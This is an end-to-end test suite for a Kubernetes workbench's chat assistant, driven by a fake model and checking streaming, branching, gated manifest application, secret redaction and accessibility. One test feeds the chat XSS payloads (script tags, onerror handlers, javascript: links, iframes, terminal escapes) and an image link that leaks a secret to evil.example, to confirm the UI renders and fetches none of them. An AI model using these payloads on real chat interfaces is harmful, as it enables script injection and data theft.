import { spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempDisposable, readFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { createInterface } from 'node:readline';
import type { Browser, Locator, Page } from 'playwright-core';
import { build } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { violations } from './harness/accessibility.ts';
import { launchBrowser, openPage } from './harness/browser.ts';
import { testKubeconfig } from './harness/environment.ts';
import { type FakeModel, startFakeModel } from './harness/fake-model.ts';
import { kubectl } from './harness/kubectl.ts';
import { startWorkbench, type Workbench } from './harness/workbench.ts';

const namespace = 'e2e-chat';
const inside = (...args: string[]) => kubectl('--namespace', namespace, ...args);
const keepViolations = `window.violations = []; document.addEventListener('securitypolicyviolation', (event) => window.violations.push(event.effectiveDirective + ' ' + event.blockedURI));`;
const manifest = `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: from-chat\n  namespace: ${namespace}\ndata:\n  answer: "42"`;
const fenced = (language: string, code: string) => `\`\`\`${language}\n${code}\n\`\`\``;
const said =
  (...pieces: string[]) =>
  () => ({ pieces });

/** A promise that the test keeps when it wants to. */
function held() {
  const { promise, resolve } = Promise.withResolvers<void>();
  return { promise, letGo: () => resolve() };
}

/** Conversations beside every page and on their own, with a model that says what the test wants. */
describe('the chat', () => {
  let browser: Browser;
  let workbench: Workbench;
  let model: FakeModel;

  beforeAll(async () => {
    await kubectl('delete', 'namespace', namespace, '--ignore-not-found', '--wait=true', '--timeout=90s');
    await kubectl('create', 'namespace', namespace);
    await inside('create', 'configmap', 'settings', '--from-literal=colour=blue');
    model = await startFakeModel(said('Nothing to say.'));
    const environment = { KUBECONFIG: testKubeconfig(), QUARTERDECK_STATE: model.stateDirectory };
    [browser, workbench] = await Promise.all([launchBrowser(), startWorkbench(environment)]);
  });

  afterAll(async () => {
    await browser?.close();
    await workbench?.[Symbol.asyncDispose]();
    await model?.[Symbol.asyncDispose]();
    await kubectl('delete', 'namespace', namespace, '--ignore-not-found', '--wait=false');
  });

  async function at(path: string, options: { colorScheme?: 'light' | 'dark'; viewport?: { width: number; height: number } } = {}) {
    const opened = await openPage(browser, 'about:blank', options);
    await opened.page.addInitScript(keepViolations);
    await opened.page.goto(workbench.url);
    await opened.page.locator('#root > *').first().waitFor();
    await opened.page.goto(new URL(path, workbench.url).href);
    return opened;
  }

  const box = (page: Page): Locator => page.getByRole('textbox', { name: 'Your question' });
  const answers = (page: Page): Locator => page.getByRole('article', { name: 'Assistant' });
  const sidebar = (page: Page): Locator => page.getByRole('complementary', { name: 'Assistant', exact: true });
  const whole = (page: Page): Locator => answers(page).last().getByRole('button', { name: 'Copy the answer' });

  async function ask(page: Page, question: string): Promise<void> {
    await box(page).fill(question);
    await page.keyboard.press('Enter');
  }

  it('answers beside the page by keys alone: steps, thoughts, objects, what was sent', async () => {
    model.play((_text, { turn }) =>
      turn === 0
        ? { thoughts: ['Let me look at the settings.'], call: { name: 'get_resource', input: { kind: 'ConfigMap', namespace, name: 'settings' } } }
        : { pieces: ['The colour of ', `\`ConfigMap ${namespace}/settings\``, ' is **blue**.'] },
    );
    await using opened = await at(`/resources/configmaps?open=ConfigMap%2F${namespace}%2Fsettings`);
    const { page, errors } = opened;
    await page.getByRole('complementary', { name: /settings/ }).waitFor();
    await page.keyboard.press('Control+Shift+K');
    await sidebar(page).getByText(`About ConfigMap ${namespace}/settings`).waitFor();
    await page.keyboard.type('Which colour is set?');
    await page.keyboard.press('Shift+Enter');
    await page.keyboard.type('And why?');
    await page.keyboard.press('Enter');
    await whole(page).waitFor();
    const answer = answers(page).last();
    expect(await answer.locator('strong').textContent()).toBe('blue');
    expect(await page.getByRole('article', { name: 'You' }).textContent()).toContain('Which colour is set?\nAnd why?');
    await answer.getByText(/Looked at \d+ thing/).click();
    await answer.getByText('kind=ConfigMap', { exact: false }).first().waitFor();
    await answer.getByText('What the model thought').waitFor();
    await answer.getByRole('link', { name: /settings/ }).waitFor();
    await answer.getByRole('button', { name: 'What was sent' }).click();
    const dialog = page.getByRole('dialog', { name: 'What was sent' });
    await dialog.locator('details[open]').getByText('Which colour is set?').first().waitFor();
    expect(await violations(page)).toEqual([]);
    await page.keyboard.press('Escape');
    await dialog.waitFor({ state: 'detached' });
    await page.keyboard.press('Control+Shift+K');
    await sidebar(page).waitFor({ state: 'detached' });
    expect([errors, await page.evaluate('window.violations')]).toEqual([[], []]);
  });

  it('goes on over a reload in the middle, and in two tabs at once', async () => {
    const rest = held();
    model.play(() => ({ pieces: ['The first half, ', 'and the second.'], hold: rest.promise }));
    await using opened = await at('/ai');
    const { page, context } = opened;
    await ask(page, 'tell it in two halves');
    await answers(page).getByText('The first half,').waitFor();
    await page.waitForURL(/conversation=/);
    const other = await context.newPage();
    await other.goto(page.url());
    await answers(other).getByText('The first half,').waitFor();
    await page.reload();
    await answers(page).getByText('The first half,').waitFor();
    rest.letGo();
    for (const tab of [page, other]) await answers(tab).getByText('The first half, and the second.').waitFor();
    // What is asked in one tab is in the other.
    model.play(said('Once more.'));
    await ask(other, 'again');
    await answers(page).getByText('Once more.').waitFor();
  });

  it('is stopped, asked again, edited into a branch, rated and gone on with', async () => {
    const never = held();
    model.play(() => ({ pieces: ['Half of it, ', 'and more.'], hold: never.promise }));
    await using opened = await at('/ai');
    const { page } = opened;
    await ask(page, 'how many are there?');
    await answers(page).getByText('Half of it').waitFor();
    await page.getByRole('button', { name: 'Stop' }).click();
    await page.getByText('Stopped: this is what there is until then.').waitFor();
    never.letGo();
    model.play(said('The rest.'));
    await page.getByRole('button', { name: 'Go on' }).click();
    await answers(page).getByText('The rest.').waitFor();
    model.play(said('Seven.'));
    await answers(page).first().getByRole('button', { name: 'Answer again' }).click();
    await answers(page).getByText('Seven.').waitFor();
    expect(await answers(page).count()).toBe(1);
    model.play(said('Eight.'));
    await page.getByRole('button', { name: 'Edit' }).click();
    await page.getByRole('textbox', { name: 'Edit the question' }).fill('how many will there be?');
    await page.keyboard.press('Enter');
    await answers(page).getByText('Eight.').waitFor();
    await page.getByText('3/3').waitFor();
    await page.getByRole('button', { name: 'The version before' }).click();
    await answers(page).getByText('Seven.').waitFor();
    await page.getByText('2/3').waitFor();
    await page.getByRole('button', { name: 'Bad answer' }).click();
    await page.getByRole('textbox', { name: 'What was wrong with it?' }).fill('Not counted.');
    await page.keyboard.press('Enter');
    await expect.poll(() => page.getByRole('button', { name: 'Bad answer' }).getAttribute('aria-pressed')).toBe('true');
    await page.reload();
    await answers(page).getByText('Seven.').waitFor();
  });

  it('runs, loads and opens nothing of what an answer says', async () => {
    const hostile = [
      '<img src="https://evil.example/a.png" onerror="alert(1)"><script>alert(2)</script><style>*{display:none}</style>',
      '![see](https://evil.example/b.png?secret=1) [here](javascript:alert(3)) [data](data:text/html,<script>alert(4)</script>)',
      '[really kubernetes.io](https://evil.example/c) <a href="https://evil.example/d">d</a> <iframe src="https://evil.example/e"></iframe>',
      '\u001b]8;;https://evil.example/f\u0007link\u001b]8;;\u0007 \u001b[2J\u202e',
      fenced('html"><script>alert(5)</script>', '</code></pre><script>alert(6)</script>'),
      'The end.',
    ].join('\n\n');
    model.play(said(...(hostile.match(/[\s\S]{1,7}/g) ?? [])));
    await using opened = await at('/ai');
    const { page, errors } = opened;
    const outside: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(new URL(workbench.url).origin)) outside.push(request.url());
    });
    page.on('dialog', () => outside.push('a dialog'));
    await ask(page, 'show me something bad');
    await answers(page).getByText('The end.').waitFor();
    await whole(page).waitFor();
    expect(await answers(page).locator('img, script, style, iframe, a').count()).toBe(0);
    const link = answers(page).getByRole('button', { name: /really/ });
    if ((await link.count()) > 0) {
      await link.click();
      await page.getByText('This leads away from here to').waitFor();
    }
    expect([outside, errors, await page.evaluate('window.violations')]).toEqual([[], [], []]);
  });

  it('opens what is proposed, and applies a manifest from an answer, through the gate', async () => {
    const target = { apiVersion: 'v1', kind: 'ConfigMap', namespace, name: 'settings' };
    const change = { verb: 'patch', target, patchType: 'merge', patch: { data: { colour: 'green' } } };
    model.play((_text, { turn }) =>
      turn === 0
        ? { call: { name: 'propose_change', input: { change, reason: 'Green is calmer.' } } }
        : { pieces: ['Proposed. Or make this:\n\n', fenced('yaml', manifest), '\n'] },
    );
    await using opened = await at('/ai');
    const { page } = opened;
    await ask(page, 'compose something with another colour');
    await whole(page).waitFor();
    const proposal = page.getByRole('region', { name: 'Proposed, not done' });
    await proposal.getByText('Green is calmer.').waitFor();
    await proposal.getByRole('button', { name: 'Look at it' }).click();
    await page.getByRole('dialog').getByText('green').first().waitFor();
    expect(await violations(page)).toEqual([]);
    await page.keyboard.press('Escape');
    await page.getByRole('dialog').waitFor({ state: 'detached' });
    await answers(page).getByRole('button', { name: 'Preview and apply' }).click();
    await page
      .getByRole('dialog')
      .getByRole('button', { name: /ConfigMap from-chat/ })
      .click();
    await expect.poll(() => inside('get', 'configmap', 'from-chat', '--ignore-not-found', '-o', 'jsonpath={.data.answer}'), { timeout: 30_000 }).toBe('42');
    expect(await inside('get', 'configmap', 'settings', '-o', 'jsonpath={.data.colour}')).toBe('blue');
  });

  it('takes what is laid beside a question, and shows and sends no more than one lets it', async () => {
    model.play(said('Read.'));
    await using opened = await at('/ai');
    const { page } = opened;
    const log = Array.from({ length: 10_000 }, (_, line) => `2026-01-01T12:00:00Z line ${line}`).join('\n');
    await page.evaluate(`navigator.clipboard.writeText(${JSON.stringify(`${log}\npassword=hunter2-${'x'.repeat(8)}`)})`);
    await box(page).focus();
    await page.keyboard.press('Control+V');
    const attached = page.getByRole('list', { name: 'Added to the question' });
    await attached.getByText('Pasted log').waitFor();
    await page.keyboard.type('why @settin');
    await page.getByRole('option', { name: new RegExp(`${namespace}/settings`) }).click();
    await attached.getByText('settings').first().waitFor();
    await page.locator('input[type=file]').setInputFiles({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('A note of mine.') });
    await attached.getByText('notes.txt').waitFor();
    const context = page.getByRole('region', { name: 'What is sent' });
    await context.getByRole('button', { name: 'Do not send: Attached: notes.txt' }).click();
    await context.getByRole('button', { name: 'Send again: Attached: notes.txt' }).waitFor();
    await context.getByText('1 secret hidden').first().waitFor();
    expect(await violations(page)).toEqual([]);
    await box(page).focus();
    await page.keyboard.press('End');
    await page.keyboard.type(' does it fail');
    await page.keyboard.press('Enter');
    await whole(page).waitFor();
    const sent = model.asked.at(-1) ?? '';
    expect([sent.includes('Pasted log'), sent.includes('line 9999'), sent.includes('A note of mine'), sent.includes('hunter2')]).toEqual([
      true,
      true,
      false,
      false,
    ]);
    await context.getByLabel('Logs', { exact: true }).uncheck();
    await context.getByText('kept here by your settings').first().waitFor();
    await context.getByLabel('Logs', { exact: true }).check();
    await expect.poll(() => context.getByText('kept here by your settings').count()).toBe(0);
  });

  it('keeps conversations: searched, renamed, exported, deleted and had back, and what was not sent yet', async () => {
    model.play(said('An aardvark.'));
    await using opened = await at('/ai');
    const { page } = opened;
    await ask(page, 'which animal comes first?');
    await answers(page).getByText('An aardvark.').waitFor();
    const list = page.getByRole('navigation', { name: 'Conversations' });
    const menu = (title: string) => list.getByRole('button', { name: `Do something with ${title}` });
    await box(page).fill('not sent yet');
    await menu('which animal comes first?').click();
    await page.getByRole('menuitem', { name: 'Rename' }).click();
    await page.getByRole('textbox', { name: 'Title' }).fill('Animals');
    await page.keyboard.press('Enter');
    await page.getByRole('heading', { name: 'Animals' }).waitFor();
    await list.getByRole('textbox', { name: 'Search conversations' }).fill('aardv');
    await expect.poll(() => list.getByRole('listitem').count()).toBe(1);
    await menu('Animals').click();
    const downloading = page.waitForEvent('download');
    await page.getByRole('menuitem', { name: 'Export as Markdown' }).click();
    const file = await (await downloading).path();
    expect(await readFile(file, 'utf8')).toContain('An aardvark.');
    await menu('Animals').click();
    await page.getByRole('menuitem', { name: 'Delete' }).click();
    await menu('Animals').waitFor({ state: 'detached' });
    await page.getByRole('button', { name: 'Undo' }).click();
    await list.getByRole('link', { name: /Animals/ }).click();
    await answers(page).getByText('An aardvark.').waitFor();
    expect(await box(page).inputValue()).toBe('not sent yet');
  });

  it('stays quick with 10,000 lines, and at the end only while one is there', async () => {
    const lines = Array.from({ length: 2_000 }, (_, line) => `Line ${line} of many.\n\n`);
    model.play(said(...(lines.join('').match(/[\s\S]{1,4000}/g) ?? [])));
    await using opened = await at('/ai');
    const { page } = opened;
    for (let turn = 0; turn < 5; turn += 1) {
      await ask(page, `part ${turn}`);
      await expect.poll(() => answers(page).last().getByText('Line 1999 of many.').count(), { timeout: 20_000 }).toBe(1);
      await whole(page).waitFor();
    }
    await page.reload();
    await answers(page).last().getByText('Line 1999 of many.').waitFor();
    // What is far from what is seen is not drawn.
    expect(await answers(page).count()).toBeLessThan(5);
    const log = page.getByRole('log', { name: 'Conversation' });
    await log.focus();
    await page.keyboard.press('Home');
    await log.getByText('part 0', { exact: true }).waitFor();
    await page.getByRole('button', { name: 'To the end' }).click();
    await expect.poll(() => log.evaluate((element) => element.scrollHeight - element.scrollTop - element.clientHeight < 60)).toBe(true);
  });

  it.each(['light', 'dark'] as const)('can be read by everybody, on a phone too: %s', async (colorScheme) => {
    model.play(said('# One\n\n- [x] done\n\n| a | b |\n|---|--:|\n| 1 | 2 |\n\n', fenced('sh', 'kubectl get pods'), '\n\nThe end.'));
    await using opened = await at('/ai', { colorScheme });
    const { page } = opened;
    await ask(page, 'what does it look like?');
    await whole(page).waitFor();
    await page.getByRole('region', { name: 'What is sent' }).getByText('tokens').first().waitFor();
    expect(await violations(page)).toEqual([]);
    await page.setViewportSize({ width: 390, height: 844 });
    await page.getByText('Conversations and what is sent').waitFor();
    expect([await violations(page), await page.evaluate('document.documentElement.scrollWidth')]).toEqual([[], 390]);
    await page.goto(new URL('/', workbench.url).href);
    await page.getByRole('heading', { level: 1 }).waitFor();
    await page.keyboard.press('Control+Shift+K');
    await sidebar(page).getByRole('button', { name: 'What is sent' }).waitFor();
    expect([await violations(page), await page.evaluate('document.documentElement.scrollWidth')]).toEqual([[], 390]);
  });
});

describe('the chat without a model', () => {
  it('answers, says that it does so alone, and leads to where one is added', async () => {
    await using workbench = await startWorkbench({ KUBECONFIG: '/nonexistent/kubeconfig', HOME: '/nonexistent' });
    const browser = await launchBrowser();
    try {
      await using opened = await openPage(browser, workbench.url);
      const { page } = opened;
      await page.getByRole('button', { name: 'Ask', exact: true }).click();
      await page.getByText('No model is set up').waitFor();
      const suggested = page.getByRole('list', { name: 'Questions worth asking' }).getByRole('button');
      await suggested.first().click();
      const answer = page.getByRole('article', { name: 'Assistant' });
      await answer.getByRole('button', { name: 'Copy the answer' }).waitFor();
      expect((await answer.textContent())?.length).toBeGreaterThan(60);
      expect(await violations(page)).toEqual([]);
      await page.getByRole('button', { name: 'New conversation' }).click();
      await page.getByRole('link', { name: 'Add a model' }).click();
      await page.waitForURL(/\/ai\/providers/);
    } finally {
      await browser.close();
    }
  });
});

describe('the chat in another host', () => {
  it('answers from another source, in another look', async () => {
    await using folder = await mkdtempDisposable(path.join(tmpdir(), 'quarterdeck-example-'));
    const example = path.join(import.meta.dirname, '..', 'examples', 'inventory-chat');
    await build({ configFile: path.join(example, 'vite.config.ts'), logLevel: 'silent', build: { outDir: folder.path } });
    const env = { ...process.env, PORT: '0', PAGE: folder.path, STORAGE: path.join(folder.path, 'chat.db') };
    const server = spawn(process.execPath, [path.join(example, 'server.ts')], { env, stdio: ['ignore', 'pipe', 'inherit'] });
    const browser = await launchBrowser();
    try {
      const [url] = await once(createInterface({ input: server.stdout }), 'line');
      await using opened = await openPage(browser, String(url));
      const { page, errors } = opened;
      await page.getByRole('button', { name: 'When does example.com expire?' }).waitFor();
      await page.getByRole('textbox', { name: 'Your question' }).fill('where does storefront run?');
      await page.keyboard.press('Enter');
      await page.getByRole('article', { name: 'Assistant' }).getByText('runsOn: [edge-7]').waitFor();
      const radius = await page.evaluate("getComputedStyle(document.querySelector('.chat-box')).borderRadius");
      expect([radius, errors, await violations(page)]).toEqual(['12px', [], []]);
    } finally {
      await browser.close();
      server.kill();
    }
  });
});
